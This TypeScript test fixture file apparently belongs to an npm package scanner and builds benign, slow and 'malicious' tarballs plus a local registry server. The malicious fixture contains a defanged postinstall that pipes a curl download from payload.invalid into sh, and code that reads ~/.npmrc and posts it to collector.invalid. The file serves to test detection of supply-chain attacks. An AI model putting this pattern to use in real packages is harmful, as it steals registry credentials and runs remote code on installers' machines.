import { createHash, randomBytes } from 'node:crypto';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { makeTgz } from '../../../tarball/testdata/make-tarball.js';

/**
 * Test packages, built as real .tgz files. The malicious one is defanged (catalog §4.2–4.4):
 * `.invalid` hosts, a postinstall that would pipe a download into sh, ~/.npmrc sent to a collector.
 */
export const maliciousPackage = (name = 'fixture-stealer', version = '1.0.0') =>
  makeTgz([
    {
      name: 'package/package.json',
      content: JSON.stringify({
        name,
        version,
        scripts: { postinstall: 'curl -s https://payload.invalid/install.sh | sh' },
      }),
    },
    {
      name: 'package/index.js',
      content: [
        "// Defanged fixture: .invalid host, never executed by tests.",
        "const fs = require('fs');",
        "const https = require('https');",
        "const os = require('os');",
        "const path = require('path');",
        "const npmrc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');",
        "const req = https.request({ hostname: 'collector.invalid', path: '/c', method: 'POST' });",
        'req.write(npmrc);',
        'req.end();',
      ].join('\n'),
    },
  ]);

export const benignPackage = (name: string, version = '1.0.0') =>
  makeTgz([
    { name: 'package/package.json', content: JSON.stringify({ name, version, main: 'index.js' }) },
    {
      name: 'package/index.js',
      content: `module.exports = function ${name.replace(/\W/g, '_')}(a, b) {\n  return a + b;\n};\n`,
    },
  ]);

/**
 * A package of large, varied files that takes the analyser far longer than a low test limit. Files
 * stay under the parser's size limit (larger ones go to the much cheaper token layer), so every
 * byte is parsed and walked.
 */
export const slowPackage = (name = 'fixture-slow', megabytes = 6) => {
  const files: { name: string; content: string }[] = [];
  let lines: string[] = [];
  let fileSize = 0;
  let size = 0;
  for (let i = 0; size < megabytes * 1024 * 1024; i++) {
    const line = `var v${i} = { k: "${randomBytes(12).toString('hex')}", n: ${i} }; f${i % 97}(v${i}.k, v${i}.n);`;
    lines.push(line);
    size += line.length + 1;
    fileSize += line.length + 1;
    if (fileSize > 3 * 1024 * 1024) {
      files.push({ name: `package/big-${files.length}.js`, content: lines.join('\n') });
      lines = [];
      fileSize = 0;
    }
  }
  if (lines.length > 0) files.push({ name: `package/big-${files.length}.js`, content: lines.join('\n') });
  return makeTgz([{ name: 'package/package.json', content: JSON.stringify({ name, version: '1.0.0' }) }, ...files]);
};

export const sri = (bytes: Uint8Array): string =>
  `sha512-${createHash('sha512').update(bytes).digest('base64')}`;

export type TarballServer = {
  url: string;
  /** Tarball paths requested, in order. */
  requests: string[];
  /** Serves `bytes` at `/<name>/-/<name>-<version>.tgz`; returns the full URL. */
  publish: (name: string, version: string, bytes: Uint8Array) => string;
  close: () => Promise<void>;
};

/** Tarballs over HTTP on 127.0.0.1, as a registry serves them. */
export const startTarballServer = async (): Promise<TarballServer> => {
  const files = new Map<string, Uint8Array>();
  const requests: string[] = [];
  const server: Server = createServer((req, res) => {
    const path = (req.url ?? '/').split('?')[0]!;
    requests.push(path);
    const body = files.get(path);
    res.writeHead(body ? 200 : 404, { 'content-type': 'application/octet-stream' });
    res.end(body ?? '');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}/`;
  return {
    url,
    requests,
    publish: (name, version, bytes) => {
      const path = `/${name}/-/${name.split('/').pop()}-${version}.tgz`;
      files.set(path, bytes);
      return `${url}${path.slice(1)}`;
    },
    close: () => new Promise((resolve) => server.close(() => resolve())),
  };
};
